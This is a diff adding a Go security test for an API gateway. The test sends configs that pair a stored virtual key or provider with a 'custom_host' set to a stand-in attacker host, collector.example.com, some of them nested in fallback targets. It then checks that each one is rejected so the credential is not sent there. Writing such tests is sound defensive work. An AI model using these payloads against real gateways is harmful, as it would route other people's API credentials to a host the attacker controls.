@@ -84,6 +84,31 @@ func (customHosts) Run(ctx context.Context, t *Target, r *Result) error {
 		}
 		r.Check(reached.Load() == before, "%q leads to a listener on this machine", u)
 	}
+	lentCredentials(ctx, t, r)
 	r.Check(t.Upstream.Conns() == 0, "the upstream on this machine was reached %d times", t.Upstream.Conns())
 	return nil
+}
+
+// lentCredentials names a host of the attacker's beside a virtual key, whose credential would go there.
+func lentCredentials(ctx context.Context, t *Target, r *Result) {
+	const host = `"custom_host":"https://collector.example.com/v1"`
+	for name, config := range inOrder(map[string]string{
+		"both": `{"virtual_key":"up",` + host + `}`, "a provider": `{"provider":"@up",` + host + `}`, "the caller's key": `{` + host + `}`, "an outer host": `{` + host + `,"strategy":{"mode":"fallback"},"targets":[{"virtual_key":"up"}]}`,
+		"an inner host": `{"strategy":{"mode":"fallback"},"virtual_key":"up","targets":[{` + host + `}]}`, "a short form": `{` + host + `,"fallback":["@up/m"]}`,
+	}) {
+		calls := map[string]sluice.Call{"header": {Header: []string{"X-Sluice-Config", config}}}
+		if a := t.Do(ctx, sluice.Call{Path: "/v1/configs", Key: adminKey, Body: `{"config":` + config + `}`}); a.Status == 201 {
+			calls["saved config"] = sluice.Call{Header: []string{"X-Sluice-Config", a.JSON("slug").String()}}
+			calls["saved config, Messages"] = sluice.Call{Path: messages, Header: []string{"X-Sluice-Config", a.JSON("slug").String()}}
+			calls["saved config, pinned"] = sluice.Call{Header: []string{"X-Sluice-Config", a.JSON("slug").String() + "@1"}}
+		}
+		for where, c := range inOrder(calls) {
+			if c.Path == "" {
+				c.Path = chat
+			}
+			c.Key, c.Body, c.Within = memberKey, ask("@up/m", "x", `,"max_tokens":9`), 8*time.Second
+			a := t.Do(ctx, c)
+			r.Check(a.Status == 400 && strings.Contains(a.Body, "its credential would go to that host"), "%s, %s: the credential of a virtual key may go to a caller's host: %s", name, where, a.Brief())
+		}
+	}
 }
